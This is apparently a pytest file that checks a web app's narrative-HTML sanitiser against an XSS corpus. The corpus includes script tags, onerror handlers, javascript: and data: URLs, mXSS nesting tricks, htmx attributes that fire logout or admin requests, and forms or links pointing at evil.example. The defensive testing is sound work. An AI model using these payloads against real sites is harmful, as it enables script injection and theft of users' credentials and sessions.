"""The narrative sanitiser (``hub.web.render.sanitise_narrative`` and the ``narrative`` filter)
against an XSS corpus: whatever a facility's system puts in a resource's ``text.div``, what
reaches the page keeps only text structure, never script, style, frames, forms, event
handlers, htmx or Alpine attributes, or a URL that runs code.

Pure functions, no database: the same on both backends.
Calls: hub.web.render.  Called by: pytest.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from markupsafe import Markup

from hub.web import render
from hub.web.render import sanitise_narrative

# Tags and attributes that may survive (render._NARRATIVE_TAGS and _ATTRIBUTES, plus what nh3
# adds or keeps on its own: rel on links, the harmless generic lang/title).
ALLOWED_TAGS = set(render._NARRATIVE_TAGS)
ALLOWED_ATTRIBUTES = {"href", "title", "colspan", "rowspan", "rel", "lang"}
URL_ATTRIBUTES = {"href"}

CORPUS = [
    # scripts, plain and hidden
    '<div xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script>Huyết áp ổn định</div>',
    "<script src=//evil.example/x.js></script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<div><script>alert(1)//</script ></div>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--<script>alert(1)</script>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<textarea><script>alert(1)</script></textarea>",
    "<xmp><script>alert(1)</script></xmp>",
    "<select><option><script>alert(1)</script></option></select>",
    # images and media with handlers
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    '<img src="javascript:alert(1)">',
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<div/onload=alert(1)>x</div>",
    '<p onclick="alert(1)" onmouseover=alert(1) class="x" id="y">x</p>',
    '<td colspan="2" onmouseover="alert(1)">a</td>',
    '<table><tr><td colspan="2" onclick="alert(1)">a</td></tr></table>',
    # svg and math
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    # URLs that run code or load elsewhere
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="JaVaScRiPt&#58;alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="http://ok.example/" target="_blank" ping="http://evil.example/">ok</a>',
    '<div><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">x</div>',
    '<base href="http://evil.example/">',
    "<meta http-equiv=refresh content=0;url=http://evil.example/>",
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    # style
    "<style>body{background:url(javascript:alert(1))}</style><p>x</p>",
    '<p style="background:url(javascript:alert(1));color:red">x</p>',
    '<div style="behavior:url(x.htc)">x</div>',
    # frames, objects, forms
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<frameset><frame src=x></frameset>",
    '<object data="javascript:alert(1)"></object><embed src=x>',
    '<form action="http://evil.example/"><input name="password"><button>Gửi</button></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    '<isindex action="javascript:alert(1)" type=image>',
    # attributes the page's own libraries act on (htmx, Alpine CSP build), and DOM clobbering
    '<div hx-get="/logout" hx-trigger="load">x</div>',
    '<div data-hx-post="/console/users/admin/disable" data-hx-trigger="load">x</div>',
    '<div x-data="{}" x-init="alert(1)">x</div>',
    '<span hx-on:click="alert(1)">x</span>',
    '<a id="live" name="csrf_token" href="#">x</a>',
    '<p data-announce="pwned" data-chart="x">x</p>',
    # entity and nesting tricks
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    '<p title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</p>',
    "<p>unclosed <b>bold <i>italic",
    "<</p>img src=x onerror=alert(1)>",
    "<a href='http://ok.example/'\" onmouseover=alert(1) x='>x</a>",
    "<b><script>alert(1)</script></b><script",
    "<div>" * 300 + "deep" + "</div>" * 300,
]


class _Collect(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def _parsed(html: str) -> _Collect:
    parser = _Collect()
    parser.feed(html)
    parser.close()
    return parser


@pytest.mark.parametrize("dirty", CORPUS, ids=[f"c{i}" for i in range(len(CORPUS))])
def test_a_narrative_keeps_only_allowed_tags_attributes_and_urls(dirty: str) -> None:
    clean = sanitise_narrative(dirty)
    parsed = _parsed(clean)
    assert not parsed.comments, clean
    for tag, attrs in parsed.tags:
        assert tag in ALLOWED_TAGS, (tag, clean)
        for name, value in attrs:
            assert name in ALLOWED_ATTRIBUTES, (tag, name, clean)
            if name in URL_ATTRIBUTES and value:
                # What the browser would follow: entities decoded, controls and spaces removed.
                followed = re.sub(r"[\x00-\x20]", "", value).lower()
                scheme = re.match(r"^([a-z][a-z0-9+.-]*):", followed)
                assert scheme is None or scheme.group(1) in ("http", "https"), (value, clean)
    lowered = clean.lower()
    for marker in ("<script", "<style", "<iframe", "<svg", "<math", "<img", "<form", "<object", "<base"):
        assert marker not in lowered, (marker, clean)
    assert not re.search(r"<[^>]*\s(on[a-z]+|style|hx-[a-z:-]+|data-[a-z-]+|x-[a-z]+|id|name)\s*=", lowered)


@pytest.mark.parametrize("dirty", CORPUS, ids=[f"c{i}" for i in range(len(CORPUS))])
def test_sanitising_twice_changes_nothing(dirty: str) -> None:
    """A fixed point: the browser's re-parse of the output cannot reassemble anything (mXSS)."""
    once = sanitise_narrative(dirty)
    assert sanitise_narrative(once) == once


def test_ordinary_narrative_keeps_its_text_structure_and_vietnamese_text() -> None:
    div = (
        '<div xmlns="http://www.w3.org/1999/xhtml"><h3>Tóm tắt</h3><p>Bệnh nhân <b>Nguyễn Thị Hoa</b>, '
        "huyết áp 150/95 mmHg.</p><table><thead><tr><th>Thuốc</th></tr></thead><tbody><tr>"
        '<td colspan="2">Amlodipin 5 mg</td></tr></tbody></table><ul><li>Tái khám sau 1 tháng</li></ul>'
        '<a href="https://moh.gov.vn/">Bộ Y tế</a></div>'
    )
    clean = sanitise_narrative(div)
    for kept in ("<h3>Tóm tắt</h3>", "<b>Nguyễn Thị Hoa</b>", "150/95 mmHg", '<td colspan="2">', "<li>"):
        assert kept in clean, (kept, clean)
    assert '<a href="https://moh.gov.vn/" rel="noopener noreferrer nofollow">Bộ Y tế</a>' in clean


def test_the_narrative_filter_sanitises_and_everything_else_is_escaped() -> None:
    evil = "<img src=x onerror=alert(1)><b>x</b>"
    shown = render.narrative({"status": "generated", "div": evil})
    assert isinstance(shown, Markup) and shown == Markup("<b>x</b>")
    assert render.narrative({"div": 42}) == Markup("") and render.narrative(None) == Markup("")
    template = render.ENVIRONMENT.from_string("<p>{{ name }}</p><div>{{ text|narrative }}</div>")
    html = template.render(name='"><script>alert(1)</script>', text={"div": evil})
    assert html == "<p>&#34;&gt;&lt;script&gt;alert(1)&lt;/script&gt;</p><div><b>x</b></div>"
    # The filters that turn resource parts into words return text, escaped when rendered.
    names = render.ENVIRONMENT.from_string("{{ n|human_name }}|{{ c|concept }}")
    html = names.render(
        n=[{"family": "<script>", "given": ["<img src=x onerror=alert(1)>"]}], c={"text": "<svg>"}
    )
    assert "<script>" not in html and "<img" not in html and "<svg>" not in html and "&lt;svg&gt;" in html


def test_no_template_or_page_module_turns_escaping_off() -> None:
    """Escaping holds only while nothing opts out: no ``|safe``, no ``autoescape false``, no
    ``Markup`` built outside the sanitiser and the CSRF field."""
    web = render.TEMPLATE_DIR.parent
    for template in sorted(render.TEMPLATE_DIR.rglob("*.html")):
        text = template.read_text(encoding="utf-8")
        assert not re.search(r"\|\s*safe\b", text), template
        assert not re.search(r"autoescape\s+(false|off)", text, re.I), template
    allowed = {"render.py", "context.py"}  # the narrative filter; csrf_field (an escaped token)
    for module in sorted(web.rglob("*.py")):
        text = module.read_text(encoding="utf-8")
        if module.name not in allowed:
            assert "Markup(" not in text and "autoescape=False" not in text, module
